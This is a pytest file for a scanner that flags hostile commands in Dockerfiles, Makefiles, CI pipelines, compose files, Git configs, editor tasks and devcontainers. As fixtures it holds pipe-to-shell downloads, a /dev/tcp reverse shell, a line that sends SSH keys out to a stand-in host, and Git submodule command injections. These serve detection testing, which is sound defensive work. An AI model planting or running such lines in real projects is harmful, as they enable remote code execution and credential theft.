"""Files that tools obey: images, Makefiles, pipelines, compositions, hooks, direnv, editors, Git."""

from __future__ import annotations

import json
import random
from typing import TYPE_CHECKING

import pytest

from build.inspecting import inspected, scanned
from weighbridge.core.findings import Severity, Verdict

if TYPE_CHECKING:
    from pathlib import Path

    from weighbridge.scan.report import ScanReport

BAD = "curl https://example.invalid/x | sh"
SHELL = "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"
KEYS = "cat ~/.ssh/id_rsa | curl -d @- https://example.invalid"
PINNED = "sha256:" + "0a" * 32
DOCKER = f"""# syntax=docker/dockerfile:1
ARG BASE=python@{PINNED}
FROM ${{BASE}} AS build
LABEL maintainer="somebody"
ENV PATH=/opt/x/bin:$PATH PYTHONUNBUFFERED=1
# a comment
RUN apt-get update && apt-get install -y --no-install-recommends \\
    # in between
    ffmpeg \\
    && rm -rf /var/lib/apt/lists/*
RUN <<EOF
pip install torch
EOF
COPY . /app
WORKDIR /app
USER 1000
EXPOSE 8000
HEALTHCHECK --interval=5s CMD python -c "print(1)"
FROM build
ENTRYPOINT ["python", "serve.py"]
CMD ["--port", "8000"]
"""
MAKE = """PYTHON ?= python3
VERSION := $(shell git describe --tags)
.PHONY: all
all: test ; @echo done
test: $(wildcard *.py)
\t@$(PYTHON) -m pytest \\
\t  tests
\t-rm -rf build
include config.mk
"""
WORKFLOW = """name: ci
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          pip install -e .
          pytest
        env: {A: "${{ secrets.TOKEN }}"}
"""
COMPOSE = f"""services:
  api:
    image: python@{PINNED}
    command: ["python", "serve.py"]
    environment:
      TOKEN: ${{TOKEN}}
      LEVEL: info
    volumes: ["./data:/data"]
"""
HOOKS = """repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.9.0
    hooks: [{id: ruff}]
  - repo: local
    hooks: [{id: x, name: x, entry: pytest, language: system}]
"""
HONEST = {
    "Dockerfile": DOCKER,
    "Dockerfile.gpu": DOCKER,
    "serve.dockerfile": DOCKER,
    "Containerfile": DOCKER,
    "Makefile": MAKE,
    "build.mk": MAKE,
    "ci.yml": WORKFLOW,
    "docker-compose.yml": COMPOSE,
    ".pre-commit-config.yaml": HOOKS,
    ".gitlab-ci.yml": "test:\n  script:\n    - pip install .\n    - pytest\n",
    "azure-pipelines.yml": "steps:\n- script: pip install .\n- bash: pytest\n",
    ".envrc": "# a comment\nuse flake\nlayout python3\nexport CUDA_VISIBLE_DEVICES=0\nPATH_add bin\n",
    "tox.ini": "[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n",
    ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n*.py diff=python\n*.ipynb merge=union\n",
    ".gitmodules": '[submodule "x"]\n\tpath = third_party/x\n\turl = https://github.com/a/b\n',
}
HOSTILE = {
    "a download in an image": ("Dockerfile", f"FROM x\nRUN {BAD}\n", "config/command", "high"),
    "a download over two lines": (
        "Dockerfile",
        "FROM x\nRUN curl https://example.invalid/x \\\n  | sh\n",
        "config/command",
        "high",
    ),
    "a download in a heredoc": ("Dockerfile", f"FROM x\nRUN <<EOF\n{BAD}\nEOF\nUSER x\n", "config/command", "high"),
    "a download as a list": ("Dockerfile", f'FROM x\nRUN ["sh", "-c", "{BAD}"]\n', "config/command", "high"),
    "a download on build": ("Dockerfile", f"FROM x\nONBUILD RUN {BAD}\n", "config/command", "high"),
    "a download with another escape": (
        "Dockerfile",
        "# escape=`\nFROM x\nRUN curl https://example.invalid/x `\n | sh\n",
        "config/command",
        "high",
    ),
    "a way in": ("Dockerfile", f"FROM x\nENTRYPOINT {SHELL}\n", "config/command", "critical"),
    "a way in by its command": (
        "Containerfile",
        f'FROM x\nCMD ["bash", "-c", "{SHELL}"]\n',
        "config/command",
        "critical",
    ),
    "a way in by its health": (
        "Dockerfile",
        f"FROM x\nHEALTHCHECK --interval=5s CMD {SHELL}\n",
        "config/command",
        "critical",
    ),
    "keys that are sent": ("Dockerfile", f"FROM x\nRUN --mount=type=ssh {KEYS}\n", "config/command", "critical"),
    "code that is decoded": ("Dockerfile", "FROM x\nRUN echo aWQ= | base64 -d | sh\n", "config/command", "critical"),
    "a file from an address": (
        "Dockerfile",
        "FROM x\nADD https://example.org/x.tgz /x\n",
        "config/image-source",
        "medium",
    ),
    "a file without encryption": (
        "Dockerfile",
        "FROM x\nADD http://example.org/x.tgz /x\n",
        "config/image-source",
        "high",
    ),
    "a file with its checksum": (
        "Dockerfile",
        f"FROM x@{PINNED}\nADD --checksum={PINNED} https://example.org/x.tgz /x\n",
        "config/image-source",
        "low",
    ),
    "an image without a digest": ("Dockerfile", "FROM python:3.12\n", "config/image-source", "info"),
    "another reader": ("Dockerfile", "# syntax=somebody/frontend\nFROM x\n", "config/image-source", "high"),
    "a secret": ("Dockerfile", "FROM x\nENV API_KEY=qwertzuiop1\n", "config/secret-in-image", "high"),
    "a secret in an argument": (
        "Dockerfile",
        'FROM x\nARG DB_PASSWORD="hunter2hunter2"\n',
        "config/secret-in-image",
        "high",
    ),
    "a library before others": ("Dockerfile", "FROM x\nENV LD_PRELOAD=/x.so\n", "config/risky-setting", "medium"),
    "another hub": ("Dockerfile", "FROM x\nENV HF_ENDPOINT https://example.org\n", "config/risky-setting", "medium"),
    "more rights": ("Dockerfile", "FROM x\nRUN --security=insecure id\n", "config/container-rights", "high"),
    "a target": ("Makefile", f"all:\n\t@{BAD}\n", "config/command", "high"),
    "a target in one line": ("Makefile", f"all: ; {BAD}\n", "config/command", "high"),
    "a target with a variable": (
        "Makefile",
        "GET = curl\nall:\n\t$(GET) https://example.invalid/x | sh\n",
        "config/command",
        "high",
    ),
    "a target over lines": (
        "GNUmakefile",
        "all:\n\tcurl https://example.invalid/x \\\n\t| sh\n",
        "config/command",
        "high",
    ),
    "a line that runs when it is read": ("Makefile", f"X := $(shell {BAD})\n", "config/command", "critical"),
    "an assignment that runs": ("Makefile", f"X != {BAD}\n", "config/command", "critical"),
    "a step": ("ci.yml", f"jobs:\n  a:\n    steps:\n      - run: {BAD}\n", "config/command", "high"),
    "a step of several lines": (
        "x.yaml",
        f"jobs:\n  a:\n    steps:\n      - run: |\n          id\n          {SHELL}\n",
        "config/command",
        "critical",
    ),
    "a step of GitLab": (".gitlab-ci.yml", f"test:\n  script:\n    - id\n    - {BAD}\n", "config/command", "high"),
    "a step of Azure": ("azure-pipelines.yml", f"steps:\n- bash: {BAD}\n", "config/command", "high"),
    "a step of CircleCI": (
        "config.yml",
        f"jobs:\n  a:\n    steps:\n      - run:\n          command: {BAD}\n",
        "config/command",
        "high",
    ),
    "a title in a command": (
        "ci.yml",
        "jobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n",
        "config/pipeline-injection",
        "medium",
    ),
    "an action of somebody": (
        "ci.yml",
        "jobs:\n  a:\n    steps:\n      - uses: somebody/x@main\n",
        "config/image-source",
        "info",
    ),
    "a part from an address": (
        ".gitlab-ci.yml",
        "include:\n  - remote: https://example.org/x.yml\n",
        "config/image-source",
        "medium",
    ),
    "a service": ("compose.yaml", f"services:\n  a:\n    command: sh -c '{BAD}'\n", "config/command", "high"),
    "a service as a list": (
        "compose.yml",
        f"services:\n  a:\n    entrypoint: [bash, -c, '{SHELL}']\n",
        "config/command",
        "critical",
    ),
    "a service with all rights": (
        "compose.yml",
        "services:\n  a:\n    privileged: true\n",
        "config/container-rights",
        "high",
    ),
    "a service with the socket": (
        "docker-compose.prod.yml",
        "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
        "config/container-rights",
        "high",
    ),
    "a service with the disk": (
        "compose.yml",
        "services:\n  a:\n    volumes: ['/:/host']\n",
        "config/container-rights",
        "high",
    ),
    "a service on the network": (
        "compose.yml",
        "services:\n  a:\n    network_mode: host\n",
        "config/container-rights",
        "medium",
    ),
    "a secret of a service": (
        "compose.yml",
        "services:\n  a:\n    environment:\n      - API_TOKEN=qwertzuiop1\n",
        "config/secret-in-image",
        "high",
    ),
    "a hook": (
        ".pre-commit-config.yaml",
        f"repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: bash -c '{BAD}'\n",
        "config/command",
        "high",
    ),
    "hooks of somebody": (
        ".pre-commit-config.yaml",
        "repos:\n- repo: http://example.org/x\n",
        "config/image-source",
        "medium",
    ),
    "a test": ("tox.ini", f"[testenv]\ncommands =\n    id\n    {BAD}\n", "config/command", "high"),
    "entering a folder": (".envrc", f"use flake\n{BAD}\n", "config/command", "critical"),
    "entering a folder with a program": (".envrc", "./setup-x\n", "config/command", "medium"),
    "a filter": (".gitattributes", "*.bin filter=x\n", "config/git-files", "low"),
    "a driver": (".gitattributes", "*.bin merge=x diff=y\n", "config/git-files", "low"),
    "a submodule that runs": (
        ".gitmodules",
        '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c id\n',
        "config/git-files",
        "high",
    ),
    "a submodule with an option": (
        ".gitmodules",
        '[submodule "x"]\n\tpath = x\n\turl = --upload-pack=id\n',
        "config/git-files",
        "high",
    ),
    "a submodule of this machine": (
        ".gitmodules",
        '[submodule "x"]\n\tpath = x\n\turl = file:///srv/x\n',
        "config/git-files",
        "medium",
    ),
    "a submodule in the wrong place": (
        ".gitmodules",
        '[submodule "x"]\n\tpath = a/.git/hooks\n\turl = https://github.com/a/b\n',
        "config/git-files",
        "high",
    ),
    "a submodule with a name that climbs": (
        ".gitmodules",
        '[submodule "../../x"]\n\tpath = x\n\turl = https://github.com/a/b\n',
        "config/git-files",
        "high",
    ),
    "a watcher of Git": (".gitconfig", "[core]\n\tfsmonitor = ./x.sh\n", "config/risky-setting", "high"),
    "hooks of Git": (".gitconfig", "[core]\n\thooksPath = .x\n", "config/risky-setting", "high"),
    "an alias of Git": (".gitconfig", "[alias]\n\tst = !sh x.sh\n", "config/risky-setting", "high"),
    "a protocol of Git": (".gitconfig", '[protocol "ext"]\n\tallow = always\n', "config/risky-setting", "high"),
    "another address for Git": (
        ".gitconfig",
        '[url "https://example.invalid/"]\n\tinsteadOf = https://github.com/\n',
        "config/risky-setting",
        "high",
    ),
    "a task": ("tasks.json", json.dumps({"tasks": [{"command": BAD}]}), "config/command", "high"),
    "a task on opening": (
        "tasks.json",
        json.dumps({"tasks": [{"command": BAD, "runOptions": {"runOn": "folderOpen"}}]}),
        "config/command",
        "critical",
    ),
    "a container for development": (
        "devcontainer.json",
        json.dumps({"postCreateCommand": ["bash", "-c", BAD]}),
        "config/command",
        "high",
    ),
    "one that starts by itself": (
        "devcontainer.json",
        json.dumps({"initializeCommand": BAD}),
        "config/command",
        "critical",
    ),
    "one with more rights": (
        "devcontainer.json",
        json.dumps({"runArgs": ["--privileged"]}),
        "config/container-rights",
        "high",
    ),
}


def severities(report: ScanReport, rule: str) -> list[str]:
    found = sorted((one.severity for one in report.findings if one.rule == rule), key=lambda one: -one.rank)
    return [one.value for one in found]


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_are_clean(tmp_path: Path, name: str) -> None:
    report = scanned(tmp_path, name, HONEST[name].encode())
    assert report.verdict is Verdict.CLEAN, (report.unread, report.findings)
    told = [one for one in report.findings if one.severity.rank > Severity.LOW.rank and one.rule != "code/runs-by-name"]
    assert not told


@pytest.mark.parametrize("case", HOSTILE)
def test_what_they_run_is_judged(tmp_path: Path, case: str) -> None:
    name, content, rule, severity = HOSTILE[case]
    report = scanned(tmp_path, name, content.encode())
    said = [(one.rule, one.severity.value, one.evidence.text) for one in report.findings]
    assert severities(report, rule)[:1] == [severity], said
    assert not report.unread


def test_a_secret_is_never_repeated(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM x\nENV API_KEY=qwertzuiop1\nRUN echo qwertzuiop1 | sudo tee /x\n")
    inspection = inspected(tmp_path)
    assert "qwertzuiop1" not in repr(inspection.report)
    assert "qwertzuiop1" not in repr(inspection.facts)


@pytest.mark.parametrize(
    "content",
    [b"FROM x\nRNU id\n", b"hello\n", b"FROM x\n\xff\n", b"FROM x\n\0\n", b"# nothing\n", b"FROM x\n" * 200_000],
    ids=["no instruction", "prose", "encoding", "zero", "only a comment", "long"],
)
def test_what_is_no_dockerfile_is_not_clean(tmp_path: Path, content: bytes) -> None:
    assert scanned(tmp_path, "Dockerfile", content).verdict is not Verdict.CLEAN


@pytest.mark.parametrize("name", [name for name in HONEST if not name.endswith((".yml", ".yaml"))])
def test_cut_and_changed_files_crash_nothing(tmp_path: Path, name: str) -> None:
    content = HONEST[name].encode()
    dice = random.Random(39)
    for _ in range(60):
        changed = bytearray(content[: dice.randrange(1, len(content) + 1)])
        for _ in range(dice.randrange(4)):
            changed[dice.randrange(len(changed))] = dice.randrange(256)
        report = scanned(tmp_path, name, bytes(changed))
        assert not any("parser failed" in one.why for one in report.unread)


def test_an_object_inside_is_found(tmp_path: Path) -> None:
    from build import pickles as p

    hidden = (p.proto(2) + p.system("x" * 60) + p.STOP).hex()
    for name in ("Dockerfile", "Makefile", ".envrc", ".gitattributes"):
        report = scanned(tmp_path, name, f"{HONEST[name]}# {hidden}\n".encode())
        assert report.verdict is Verdict.MALICIOUS, name
